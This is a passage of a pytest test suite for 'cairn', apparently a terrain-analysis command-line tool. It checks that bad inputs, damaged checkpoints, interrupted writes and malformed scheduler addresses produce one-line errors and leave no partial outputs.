"""What users throw at cairn: one clear line, exit 2, nothing written; or a defined answer.

Each case asserts the exit code, the message and the absence (or presence) of
output files.
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import time

import numpy as np
import pytest
import rasterio

from .conftest import cli_command, said, smooth_terrain, write_tif

pytestmark = pytest.mark.usefixtures("stand_in_figures")

RUN = ("--rmse", "1", "-n", "4", "--workers", "1", "-q")


def one_line_error(code, err, *needles):
    # warnings said before the error (e.g. about independent error) are not part of it
    lines = said(err)
    assert code == 2, err
    assert len(lines) == 1 and lines[0].startswith("cairn: error:"), err
    for n in needles:
        assert n in lines[0], (n, lines[0])


def nothing_written(out):
    assert not out.exists() or not any(out.iterdir())


@pytest.fixture
def dem(tmp_path):
    return write_tif(tmp_path / "dem.tif", smooth_terrain((40, 40), seed=1))


# -- bad input ---------------------------------------------------------------------
def test_missing_file(cairn, tmp_path):
    for cmd in (("peaks",), ("depressions",), ("inspect",)):
        extra = ("-o", tmp_path / "o", *RUN) if cmd[0] != "inspect" else ()
        code, _, err = cairn(*cmd, tmp_path / "nope.tif", *extra)
        one_line_error(code, err, "nope.tif", "no such file")
    nothing_written(tmp_path / "o")


def test_text_file_named_tif(cairn, tmp_path):
    p = tmp_path / "notes.tif"
    p.write_text("these are my field notes, not a raster\n")
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "notes.tif", "not a raster")
    nothing_written(tmp_path / "o")


def test_truncated_geotiff(cairn, tmp_path):
    full = write_tif(tmp_path / "full.tif", smooth_terrain((200, 200), seed=2))
    data = full.read_bytes()
    cut = tmp_path / "cut.tif"
    cut.write_bytes(data[: len(data) // 2])
    code, _, err = cairn("depressions", cut, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "cut.tif")
    assert "truncated" in err or "not a raster" in err
    nothing_written(tmp_path / "o")


def test_no_valid_cells(cairn, tmp_path):
    p = write_tif(tmp_path / "empty.tif", np.full((5, 6), -9999, np.int16), nodata=-9999)
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "empty.tif", "no valid cells")
    nothing_written(tmp_path / "o")


@pytest.mark.parametrize("args,needle", [
    (("--rmse", "nan"), "--rmse"), (("--rmse", "inf"), "--rmse"), (("--rmse", "-1"), "--rmse"),
    (("--rmse", "0"), "--rmse"), (("--le90", "0"), "--le90"),
    (("--rmse", "1", "-n", "0"), "--realisations"), (("--rmse", "1", "-n", "-5"), "--realisations"),
    (("--rmse", "1", "--kernel", "box"), "--kernel"),
    (("--rmse", "1", "--workers", "0"), "--workers"),
    (("--rmse", "1", "--range", "-10"), "--range"),
])
def test_bad_numbers_and_choices(cairn, dem, tmp_path, args, needle):
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *args)
    one_line_error(code, err, needle)
    nothing_written(tmp_path / "o")


def test_bbox_outside_raster(cairn, dem, tmp_path):
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--bbox", "0,0,10,10")
    one_line_error(code, err, "dem.tif", "outside the raster")
    nothing_written(tmp_path / "o")


def test_bbox_reads_a_window(cairn, dem, tmp_path):
    code, out, _ = cairn("inspect", dem, "--bbox", "500000,6799700,500200,6800000")
    assert code == 0 and "30 rows x 20 columns" in out


@pytest.mark.slow
def test_multiband_without_band(cairn, tmp_path):
    z = np.stack([smooth_terrain((20, 20), seed=s) for s in (1, 2, 3)])
    p = write_tif(tmp_path / "three.tif", z)
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "three.tif", "3 bands", "--band")
    nothing_written(tmp_path / "o")
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN, "--band", "4")
    one_line_error(code, err, "band 4")
    assert cairn("peaks", p, "-o", tmp_path / "o", *RUN, "--band", "2")[0] == 0


def test_output_is_a_file_or_unwritable(cairn, dem, tmp_path):
    f = tmp_path / "afile"
    f.write_text("x")
    code, _, err = cairn("peaks", dem, "-o", f, *RUN)
    one_line_error(code, err, "afile", "is a file")
    code, _, err = cairn("peaks", dem, "-o", f / "sub", *RUN)
    one_line_error(code, err, "cannot create")
    code, _, err = cairn("peaks", dem, "-o", "/proc/cairn-out", *RUN)
    one_line_error(code, err, "/proc/cairn-out")


@pytest.mark.slow
def test_checkpoint_from_another_run(cairn, dem, tmp_path):
    ck = tmp_path / "ck.npz"
    assert cairn("peaks", dem, "-o", tmp_path / "a", *RUN, "--checkpoint", ck)[0] == 0
    other = write_tif(tmp_path / "other.tif", smooth_terrain((40, 40), seed=2))
    code, _, err = cairn("peaks", other, "-o", tmp_path / "b", *RUN, "--checkpoint", ck, "--resume")
    one_line_error(code, err, "another DEM")
    nothing_written(tmp_path / "b")
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "b", *RUN, "--checkpoint", ck, "--resume",
                         "--seed", "5")
    one_line_error(code, err, "seed")
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "c", *RUN, "--checkpoint", ck)
    one_line_error(code, err, "--resume")


def test_checkpoint_is_never_unpickled(cairn, dem, tmp_path):
    import pickle

    ck = tmp_path / "evil.npz"
    np.savez(ck, params_json=np.array([object()], dtype=object))
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--checkpoint", ck, "--resume")
    one_line_error(code, err, "evil.npz")
    assert pickle  # the file holds a pickled object array; loading refuses it


def test_unreachable_scheduler_fails_fast(cairn, dem, tmp_path):
    t = time.time()
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--scheduler", "tcp://127.0.0.1:9")
    one_line_error(code, err, "tcp://127.0.0.1:9", "scheduler")
    assert time.time() - t < 60


def test_memory_guard(cairn, dem, tmp_path, monkeypatch):
    import terrain.resources as r

    monkeypatch.setattr(r, "available_bytes", lambda: 1000)
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "bytes per cell", "--bbox", "--workers", "--force")
    assert cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--force")[0] == 0


def test_memory_guard_counts_the_summaries_once_the_regions_are_made(cairn, dem, tmp_path,
                                                                      monkeypatch):
    """Out of core, the feature summaries grow with the features, which no header
    tells: checked once the regions are made, before any realisation."""
    import terrain.resources as r

    monkeypatch.setattr(r, "FEATURE_BYTES", 2**40)  # a feature's summaries outgrow any machine
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "64")
    one_line_error(code, err, "the summaries of its", "features", "--bbox", "--force")
    nothing_written(tmp_path / "o")


# -- edge cases with a defined answer ------------------------------------------------
@pytest.mark.real_figures  # the figures of degenerate rasters are part of what is checked
@pytest.mark.slow
@pytest.mark.parametrize("shape", [(1, 1), (1, 9), (9, 1), (6, 7)])
@pytest.mark.parametrize("cmd", ["peaks", "depressions"])
def test_tiny_and_constant_rasters(cairn, tmp_path, shape, cmd):
    p = write_tif(tmp_path / "c.tif", np.full(shape, 100.0, np.float32))
    code, _, err = cairn(cmd, p, "-o", tmp_path / "o", *RUN)
    assert code == 0, err
    assert (tmp_path / "o" / "run.json").exists()


def test_constant_raster_single_summit_by_tie_order():
    from terrain.engine.persistence import pairs

    p = pairs(np.full((3, 3), 5.0), kind="peaks")
    assert p.birth.tolist() == [0]  # first cell in raster order (documented tie order)


def test_nan_and_inf_cells_are_nodata_and_said_once(cairn, tmp_path):
    z = smooth_terrain((30, 30), seed=3)
    z[5:8, 5:8] = np.nan
    z[20, 20] = np.inf
    z[21, 21] = -np.inf
    p = write_tif(tmp_path / "holes.tif", z)
    code, _, err = cairn("depressions", p, "-o", tmp_path / "o", *RUN)
    assert code == 0
    assert err.count("NaN or infinite") == 1 and "11 NaN or infinite cells" in err
    with rasterio.open(tmp_path / "o" / "pit_credit.tif") as ds:
        assert np.isnan(ds.read(1)[6, 6]) and np.isnan(ds.read(1)[20, 20])


def test_nodata_value_inside_elevation_range_warns(cairn, tmp_path):
    z = np.round(smooth_terrain((30, 30), seed=4) / 10).astype(np.int16)
    nd = int(np.median(z))
    p = write_tif(tmp_path / "nd.tif", z, nodata=nd)
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    assert code == 0 and "inside the elevation range" in err


def test_no_crs_warns_and_still_writes(cairn, tmp_path):
    from rasterio.transform import from_origin

    p = write_tif(tmp_path / "nocrs.tif", smooth_terrain((30, 30), seed=5), crs=None,
                  transform=from_origin(0, 30, 1, 1))
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    assert code == 0 and "no CRS" in err
    import json

    assert "cell units" in json.loads((tmp_path / "o" / "run.json").read_text())["note"]


@pytest.mark.slow
def test_geographic_crs_metres_by_latitude(cairn, tmp_path):
    from rasterio.transform import from_origin

    p = write_tif(tmp_path / "geo.tif", smooth_terrain((30, 40), seed=6), crs="EPSG:4326",
                  transform=from_origin(10.0, 61.0, 1 / 1200, 1 / 1200))
    code, out, err = cairn("inspect", p)
    assert code == 0 and "by latitude" in out
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    assert code == 0


def test_geographic_cell_area_matches_pyproj():
    # reference: pyproj.Geod (GeographicLib, Karney 2013) polygon area on WGS84
    from pyproj import Geod
    from shapely.geometry import box

    from terrain.dem import Dem

    d = Dem.from_array(np.zeros((3, 4), np.float32), transform=(0.5, 0, 10, 0, -0.5, 61.0),
                       geographic=True)
    g = Geod(ellps="WGS84")
    for r, lat in enumerate(d.row_latitudes()):
        ref = abs(g.geometry_area_perimeter(box(10, lat - 0.25, 10.5, lat + 0.25))[0])
        assert d.cell_area_m2()[r] == pytest.approx(ref, rel=1e-4)


@pytest.mark.slow
@pytest.mark.parametrize("dtype", ["int16", "int32", "float64", "uint16"])
def test_integer_and_float64_dems(cairn, tmp_path, dtype):
    z = smooth_terrain((30, 30), seed=7)
    z = np.abs(z) if dtype.startswith("u") else z
    p = write_tif(tmp_path / "t.tif", z, dtype=dtype)
    code, _, err = cairn("depressions", p, "-o", tmp_path / "o", *RUN)
    assert code == 0, err


@pytest.mark.slow
def test_negative_elevations_bathymetry(cairn, tmp_path):
    p = write_tif(tmp_path / "sea.tif", smooth_terrain((30, 30), seed=8) - 5000)
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN, "--base", "-6000")
    assert code == 0, err


# -- nothing lost ------------------------------------------------------------------
@pytest.mark.slow
def test_sigkill_during_writing_never_leaves_partial_outputs(tmp_path):
    z = smooth_terrain((300, 300), seed=9)  # writing (layers, tables, figures) lasts seconds
    dem = write_tif(tmp_path / "d.tif", z)
    ref = tmp_path / "ref"
    args = [sys.executable, "-c", "from cairn_cli.main import main; main()", "depressions", str(dem),
            "--rmse", "2", "-n", "3", "--workers", "1", "-q"]
    subprocess.run(args + ["-o", str(ref)], check=True, timeout=300)
    for k, delay in enumerate((0.0, 0.6)):
        out = tmp_path / f"k{k}"
        p = subprocess.Popen(args + ["-o", str(out)])
        # kill while writing: once the staging folder exists, then a little later each time
        # (no fixed sleeps: the kill lands in the write phase on a slow or a fast machine)
        while p.poll() is None and not (out.exists() and any(
                n.startswith(".cairn-staging") for n in os.listdir(out))):
            time.sleep(0.02)
        time.sleep(delay)
        p.send_signal(signal.SIGKILL)
        p.wait()
        for name in os.listdir(out) if out.exists() else []:
            if name.startswith("."):
                continue  # temporary names, never a final output
            a, b = out / name, ref / name
            if name.endswith(".tif"):
                with rasterio.open(a) as x, rasterio.open(b) as y:
                    assert np.array_equal(x.read(), y.read(), equal_nan=True)
            elif name.endswith((".gpkg", ".csv")):
                assert a.stat().st_size > 0
                if name.endswith(".csv"):
                    assert a.read_bytes() == b.read_bytes()
    # outputs are published as a set: a killed run leaves all of them or none, and a plain
    # rerun into a folder left with none is not refused and tidies the killed run's leftovers
    for k in range(2):
        out = tmp_path / f"k{k}"
        names = {n for n in os.listdir(out) if not n.startswith(".")} if out.exists() else set()
        assert names in (set(), set(os.listdir(ref))), names
    empty = [tmp_path / f"k{k}" for k in range(2)
             if (tmp_path / f"k{k}").exists() and not any(
                 not n.startswith(".") for n in os.listdir(tmp_path / f"k{k}"))]
    if empty:
        r = subprocess.run(args + ["-o", str(empty[-1])], capture_output=True, text=True,
                           timeout=300)
        assert r.returncode == 0, r.stderr
        assert sorted(os.listdir(empty[-1])) == sorted(os.listdir(ref))


# =====================================================================================
# Issue 14: nothing lost, nothing silently wrong. Each case: exit code, the one line,
# no traceback, and what is left on disk (nothing, or the previous complete set).
# =====================================================================================
CLI = [sys.executable, "-c", "from cairn_cli.main import main; main()"]
QUICK_CLI = cli_command(stand_in_figures=True)  # blank figures: for runs about something else


def no_traceback(err):
    assert "Traceback" not in err and "allow_pickle" not in err, err


def snapshot(folder):
    """Every file's bytes, by name (dot-files included, a lock file not)."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())
            if p.is_file() and p.name != ".cairn.lock"}


@pytest.fixture
def done(cairn, dem, tmp_path):
    """A complete peaks run in tmp_path/o (the 'previous set')."""
    out = tmp_path / "o"
    assert cairn("peaks", dem, "-o", out, *RUN)[0] == 0
    return out


# -- writes are checked, then published as a set ---------------------------------------
def _can_mount_tmpfs(tmp_path) -> bool:
    probe = tmp_path / "probe"
    probe.mkdir()
    r = subprocess.run(["unshare", "-rm", "sh", "-c", f"mount -t tmpfs -o size=64k tmpfs {probe}"],
                       capture_output=True)
    return r.returncode == 0


@pytest.mark.slow
def test_disk_full_on_a_small_filesystem(tmp_path):
    # a real size-limited file system: a 64 kB tmpfs in a private mount namespace
    if not _can_mount_tmpfs(tmp_path):
        pytest.skip("cannot mount a tmpfs here (needs unshare -rm); see the injected test below")
    dem = write_tif(tmp_path / "dem.tif", smooth_terrain((60, 60), seed=1))
    full = tmp_path / "full"
    full.mkdir()
    run = " ".join(f"'{a}'" for a in CLI)
    script = (f"mount -t tmpfs -o size=64k tmpfs {full} && "
              f"{run} peaks {dem} -o {full}/o --rmse 1 -n 20 --workers 1 -q; echo rc=$?; "
              f"ls -A {full}")
    r = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True, text=True,
                       timeout=300)
    no_traceback(r.stderr)
    one_line_error(2, r.stderr, "disk full", str(full / "o"))
    assert "rc=2" in r.stdout
    assert r.stdout.split("rc=2", 1)[1].split() == []  # nothing left: not even the folder


@pytest.mark.slow
def test_write_failure_keeps_the_previous_set(cairn, dem, done, monkeypatch):
    # a disk filling up while the quick-look is saved, injected (os error ENOSPC)
    import errno

    from matplotlib.figure import Figure

    before = snapshot(done)

    def full(self, *a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    from .stand_ins import BlankFigure

    monkeypatch.setattr(Figure, "savefig", full)
    monkeypatch.setattr(BlankFigure, "savefig", full)  # where the figures are stand-ins
    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "7", "--overwrite")
    no_traceback(err)
    one_line_error(code, err, "disk full", ".png", "No space left on device")
    assert "quicklook.png" in err or "ranking.png" in err  # the map or the chart, first saved
    assert snapshot(done) == before  # the layers written before it were never published


def test_gdal_write_error_is_raised_not_renamed(cairn, dem, tmp_path, monkeypatch):
    # GDAL reports some write errors only through its log (a full disk: TIFFAppendToStrip);
    # injected here as such a log record
    import logging

    import rasterio as rio

    real = rio.open

    def logging_open(path, mode="r", **kw):
        if mode == "w":
            logging.getLogger("rasterio._env").info(
                "GDAL signalled an error: err_no=1, msg='TIFFAppendToStrip:Write error at scanline 3'")
        return real(path, mode, **kw)

    monkeypatch.setattr(rio, "open", logging_open)
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "g", *RUN)
    no_traceback(err)
    one_line_error(code, err, "summit_credit.tif", "TIFFAppendToStrip")
    assert not (tmp_path / "g").exists()


@pytest.mark.slow
def test_harmless_gdal_error_does_not_fail_a_write(cairn, dem, tmp_path, monkeypatch):
    # GDAL also logs failures that leave the file whole (the COG driver on an all-nodata
    # band: no statistics); those are not write errors
    import logging

    import rasterio as rio

    real = rio.open

    def logging_open(path, mode="r", **kw):
        if mode == "w":
            logging.getLogger("rasterio._env").info(
                "GDAL signalled an error: err_no=1, msg='Failed to compute statistics, no valid "
                "pixels found in sampling.'")
        return real(path, mode, **kw)

    monkeypatch.setattr(rio, "open", logging_open)
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "g", *RUN)
    assert code == 0, err


@pytest.mark.slow
def test_interrupt_while_writing_keeps_the_previous_set(cairn, dem, done, monkeypatch):
    import terrain.outputs.plot as plot

    before = snapshot(done)

    def ctrl_c(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(plot, "feature_map", ctrl_c)
    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "7", "--overwrite")
    assert code == 130 and err.strip().splitlines()[-1] == "cairn: interrupted", err
    no_traceback(err)
    assert snapshot(done) == before


@pytest.mark.slow
def test_a_second_run_into_a_folder_in_use_is_refused(cairn, dem, done):
    before = snapshot(done)
    holder = subprocess.Popen(  # another process holding the folder's lock, as a running cairn does
        [sys.executable, "-c", "import fcntl, os, sys, time; "
         f"fd = os.open({str(done / '.cairn.lock')!r}, os.O_RDWR | os.O_CREAT); "
         "os.write(fd, b'4242'); fcntl.flock(fd, fcntl.LOCK_EX); print('held', flush=True); "
         "time.sleep(60)"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        for extra in ((), ("--overwrite",)):
            code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "2", *extra)
            one_line_error(code, err, "another cairn run is writing to this folder",
                           "process 4242")
        assert snapshot(done) == before
    finally:
        holder.kill()
        holder.wait()
    assert cairn("peaks", dem, "-o", done, *RUN, "--seed", "2", "--overwrite")[0] == 0
    assert not (done / ".cairn.lock").exists()


@pytest.mark.slow
def test_leftovers_of_a_killed_run_are_cleaned_by_the_next(cairn, dem, tmp_path):
    out = tmp_path / "o"
    (out / ".cairn-staging-k1ll3d0").mkdir(parents=True)
    (out / ".cairn-staging-k1ll3d0" / "summit_credit.tif").write_bytes(b"half")
    (out / ".run.json.abcd1234.part.json").write_text("{")
    (out / ".cairn.lock").write_text("999999\n")  # its process is gone: the lock is free
    code, _, err = cairn("peaks", dem, "-o", out, *RUN)  # a plain rerun is not refused
    assert code == 0, err
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []


def test_interrupted_publication_is_completed_never_mixed(tmp_path):
    from terrain.io import PUBLISHING, clean_leftovers

    out = tmp_path / "o"
    stage = out / ".cairn-staging-x"
    stage.mkdir(parents=True)
    for name, text in (("run.json", "old"), ("a.csv", "old")):
        (out / name).write_text(text)
    (stage / "a.csv").write_text("new")  # run.json was already moved when the run was killed
    (stage / PUBLISHING).write_text('["a.csv", "run.json"]')
    (out / "run.json").write_text("new")
    clean_leftovers(out)
    assert {p.name: p.read_text() for p in out.iterdir()} == {"run.json": "new", "a.csv": "new"}


# -- checkpoints ----------------------------------------------------------------------
@pytest.fixture
def checkpoint(cairn, dem, tmp_path):
    ck = tmp_path / "good.npz"
    assert cairn("peaks", dem, "-o", tmp_path / "ck-run", *RUN, "--checkpoint", ck)[0] == 0
    return ck


def _damage(good, bad, kind):
    data = good.read_bytes()
    if kind == "truncated":
        bad.write_bytes(data[: len(data) // 2])
    elif kind == "bit-flipped":  # one bit in the middle of the first array's data
        import zipfile

        with zipfile.ZipFile(good) as z:
            first = z.infolist()[0]
        at = first.header_offset + 30 + len(first.filename) + len(first.extra) + \
            first.compress_size // 2  # 30: a zip local header's fixed part (APPNOTE 4.3.7)
        b = bytearray(data)
        b[at] ^= 0x10
        bad.write_bytes(bytes(b))
    elif kind == "npy":
        np.save(bad.with_suffix(".npy"), np.arange(5))
        os.replace(bad.with_suffix(".npy"), bad)
    elif kind == "empty":
        bad.write_bytes(b"")
    elif kind == "text":
        bad.write_text("my notes, not a checkpoint\n")
    elif kind == "pickled":
        np.savez(bad, params_json=np.array([object()], dtype=object))
        os.replace(str(bad) + ".npz", bad) if not bad.exists() else None


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["truncated", "bit-flipped", "npy", "empty", "text", "pickled"])
def test_damaged_checkpoints(cairn, dem, tmp_path, checkpoint, kind):
    bad = tmp_path / "bad.npz"
    _damage(checkpoint, bad, kind)
    before = bad.read_bytes()
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "r", *RUN, "--checkpoint", bad, "--resume")
    no_traceback(err)
    one_line_error(code, err, str(bad), "damaged checkpoint")
    assert bad.read_bytes() == before
    nothing_written(tmp_path / "r")


def test_checkpoint_may_not_be_an_input_or_output(cairn, dem, tmp_path, done):
    before = dem.read_bytes()
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "x", *RUN, "--checkpoint", dem,
                         "--overwrite")
    one_line_error(code, err, "dem.tif", "the input file", "--checkpoint")
    assert dem.read_bytes() == before  # the DEM is still the DEM
    nothing_written(tmp_path / "x")
    json_before = (done / "run.json").read_bytes()
    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--checkpoint", done / "run.json",
                         "--overwrite")
    one_line_error(code, err, "run.json", "the output file")
    assert (done / "run.json").read_bytes() == json_before


def test_only_cairn_checkpoints_are_ever_replaced(cairn, dem, tmp_path):
    notes = tmp_path / "notes.npz"
    notes.write_text("field notes\n")
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--checkpoint", notes,
                         "--overwrite")
    one_line_error(code, err, "notes.npz", "not a cairn checkpoint")
    assert notes.read_text() == "field notes\n"
    nothing_written(tmp_path / "o")


@pytest.mark.parametrize("where", ["missing/ck.npz", "/proc/ck.npz"])
def test_unwritable_checkpoint_folder_refused_before_computing(cairn, dem, tmp_path, where,
                                                             monkeypatch):
    import terrain.runner.ensemble as ens

    called = []
    monkeypatch.setattr(ens, "_fold", lambda *a, **k: called.append(1))
    ck = tmp_path / where if not where.startswith("/") else where
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--checkpoint", ck)
    one_line_error(code, err, "ck.npz")
    assert not called  # refused before any realisation
    nothing_written(tmp_path / "o")


# -- georeferencing is honest ------------------------------------------------------------
def _affine(a, b, c, d, e, f):
    from rasterio.transform import Affine

    return Affine(a, b, c, d, e, f)


@pytest.mark.parametrize("name,transform", [
    ("rotated", (10 * np.cos(0.3), -10 * np.sin(0.3), 500000, -10 * np.sin(0.3),
                 -10 * np.cos(0.3), 6800000)),
    ("sheared", (10, 3, 500000, 0, -10, 6800000))])
def test_bbox_on_rotated_or_sheared_grid_refused(cairn, tmp_path, name, transform):
    p = write_tif(tmp_path / f"{name}.tif", smooth_terrain((40, 40), seed=1),
                  transform=_affine(*transform))
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN, "--bbox",
                         "500000,6799700,500200,6800000")
    one_line_error(code, err, f"{name}.tif", "rotated or sheared", "--bbox")
    nothing_written(tmp_path / "o")
    assert cairn("peaks", p, "-o", tmp_path / "o", *RUN)[0] == 0  # without a box it runs


def test_bbox_on_bottom_up_raster_and_box_inside_one_cell(tmp_path):
    from terrain.io import read_dem

    z = smooth_terrain((40, 40), seed=1)
    top = write_tif(tmp_path / "top.tif", z)
    bottom = write_tif(tmp_path / "bottom.tif", z[::-1],
                       transform=_affine(10, 0, 500000, 0, 10, 6800000 - 400))
    box = (500000, 6799700, 500200, 6800000)
    a, b = read_dem(top, bbox=box), read_dem(bottom, bbox=box)
    assert a.shape == b.shape == (30, 20)
    assert np.array_equal(a.z, b.z[::-1])  # the same cells, stored the other way up
    # the window's own georeferencing: its first cell's corner is the box's corner
    assert a.transform[2:6:3] == (500000, 6800000) and b.transform[2:6:3] == (500000, 6799700)
    one = read_dem(top, bbox=(500011, 6799981, 500012, 6799982))  # inside cell (row 1, col 1)
    assert one.shape == (1, 1) and one.z[0, 0] == z[1, 1]
    edge = read_dem(top, bbox=(500010, 6799980, 500020, 6799990))  # exactly one cell's edges
    assert edge.shape == (1, 1) and edge.z[0, 0] == z[1, 1]


def test_cell_area_is_the_parallelogram():
    # reference: shapely's polygon area of the cell's four corners (a general-purpose library)
    from shapely.geometry import Polygon

    from terrain.dem import Dem

    for t in ((10, 3, 0, 0, -10, 0), (8.6, -5, 0, -5, -8.6, 0), (10, 0, 0, 0, 10, 0)):
        d = Dem.from_array(np.zeros((3, 4), np.float32), transform=t)
        a, b, c, dd, e, f = t
        corners = [(a * i + b * j + c, dd * i + e * j + f) for i, j in ((0, 0), (1, 0), (1, 1), (0, 1))]
        assert d.cell_area_m2() == pytest.approx(Polygon(corners).area)


# -- values are what the file means -----------------------------------------------------------
def test_scale_and_offset_applied_and_recorded(cairn, tmp_path):
    import json

    z = smooth_terrain((40, 40), seed=1) + 500
    metres = write_tif(tmp_path / "m.tif", np.round(z, 1), dtype="float32")
    dm = write_tif(tmp_path / "dm.tif", np.round((z - 100) * 10), dtype="int16")
    with rasterio.open(dm, "r+") as ds:  # stored decimetres above 100 m
        ds.scales, ds.offsets = (0.1,), (100.0,)
    for p, o in ((metres, "a"), (dm, "b")):
        assert cairn("peaks", p, "-o", tmp_path / o, *RUN)[0] == 0
    with rasterio.open(tmp_path / "a" / "summit_credit.tif") as a, \
            rasterio.open(tmp_path / "b" / "summit_credit.tif") as b:
        assert np.nanmax(b.read(1)) == pytest.approx(np.nanmax(a.read(1)), rel=1e-3)
    run = json.loads((tmp_path / "b" / "run.json").read_text())["input"]
    assert run["scale"] == 0.1 and run["offset"] == 100.0


def test_undeclared_sentinel_warned_and_declared(cairn, tmp_path):
    import json

    z = smooth_terrain((40, 40), seed=1)
    z[:3, :4] = -9999
    p = write_tif(tmp_path / "s.tif", z)
    code, _, err = cairn("peaks", p, "-o", tmp_path / "a", *RUN)
    assert code == 0
    warnings_ = [line for line in err.splitlines() if "-9999" in line]
    assert len(warnings_) == 1 and "12 cells" in warnings_[0] and "--nodata -9999" in warnings_[0]
    code, _, err = cairn("peaks", p, "-o", tmp_path / "b", *RUN, "--nodata", "-9999")
    assert code == 0 and "-9999" not in err, err
    with rasterio.open(tmp_path / "b" / "summit_credit.tif") as ds:
        assert np.isnan(ds.read(1)[:3, :4]).all()
    run = json.loads((tmp_path / "b" / "run.json").read_text())["input"]
    assert run["nodata"] == -9999 and run["band"] == 1 and run["bbox"] is None


def test_complex_raster_refused(cairn, tmp_path):
    p = write_tif(tmp_path / "c.tif", smooth_terrain((20, 20), seed=1).astype(np.complex64),
                  dtype="complex64")
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "c.tif", "complex")
    nothing_written(tmp_path / "o")


# -- the memory guard reads the header first -----------------------------------------------------
def test_huge_header_refused_before_reading(cairn, tmp_path):
    p = tmp_path / "huge.tif"
    with rasterio.open(p, "w", driver="GTiff", width=200000, height=200000, count=1,
                       dtype="float32", tiled=True, sparse_ok=True, crs="EPSG:32633",
                       transform=_affine(10, 0, 0, 0, -10, 2e6)):
        pass  # a header with no pixels written: a few kB on disk
    t = time.time()
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "huge.tif", "needs", "GiB", "--bbox")
    nothing_written(tmp_path / "o")
    code, out, err = cairn("inspect", p)
    assert code == 0 and "not read" in out and "200000 rows" in out, err
    assert time.time() - t < 60


def test_any_memory_error_is_one_line(cairn, dem, tmp_path, monkeypatch):
    import cairn_cli.execute as ex

    def boom(*a, **k):
        raise MemoryError("Unable to allocate 3.07 EiB")

    monkeypatch.setattr(ex, "run_ensemble", boom)
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN)
    one_line_error(code, err, "out of memory", "--bbox")
    nothing_written(tmp_path / "o")


def test_target_se_plans_lazily(cairn, dem, tmp_path):
    from terrain.io import read_header
    from terrain.jobs import CreditJob
    from terrain.resources import estimate_run
    from terrain.runner import Execution

    head = read_header(dem)
    lazy = estimate_run(head, CreditJob("peaks"), Execution(realisations=10**6, target_se=0.5))
    short = estimate_run(head, CreditJob("peaks"), Execution(realisations=20))
    assert lazy.total == short.total  # the log is planned to the first stopping check
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", "--rmse", "1", "-n", "1000000",
                         "--target-se", "1e9", "--workers", "1", "-q")
    assert code == 0, err


def test_growing_log_stops_the_run_in_one_line(cairn, dem, tmp_path, monkeypatch):
    import terrain.runner.ensemble as ens

    monkeypatch.setattr(ens, "available_memory", lambda: 1000)
    monkeypatch.setattr(ens, "LOG_CHECK_BYTES", 1)  # look after every chunk
    ck = tmp_path / "ck.npz"
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", "--rmse", "1", "-n", "60",
                         "--workers", "1", "-q", "--checkpoint", ck)
    one_line_error(code, err, "log", "--realisations", "--target-se")
    assert ck.exists()  # the realisations done are kept
    nothing_written(tmp_path / "o")


# -- the scheduler address ------------------------------------------------------------------------
@pytest.mark.parametrize("address,needle", [
    ("http://127.0.0.1:8787", "dashboard"), ("garbage::x", "not a Dask scheduler address"),
    ("tcp://host:99999", "not a Dask scheduler address")])
def test_malformed_scheduler_address(cairn, dem, tmp_path, address, needle):
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--scheduler", address)
    no_traceback(err)
    one_line_error(code, err, address, needle, "--scheduler")
    nothing_written(tmp_path / "o")


@pytest.mark.parametrize("reply", [b"", b"HTTP/1.0 200 OK\r\n\r\n" + b"x" * 64,
                                   b"\xff" * 8 + b"garbage"])
def test_scheduler_that_is_not_dask(cairn, dem, tmp_path, monkeypatch, reply):
    # a silent service (e.g. an HTTP server waiting for a request), an HTTP answer, garbage
    import socket
    import threading

    import terrain.runner.backends as backends

    monkeypatch.setattr(backends, "HANDSHAKE_SECONDS", 2.0)
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
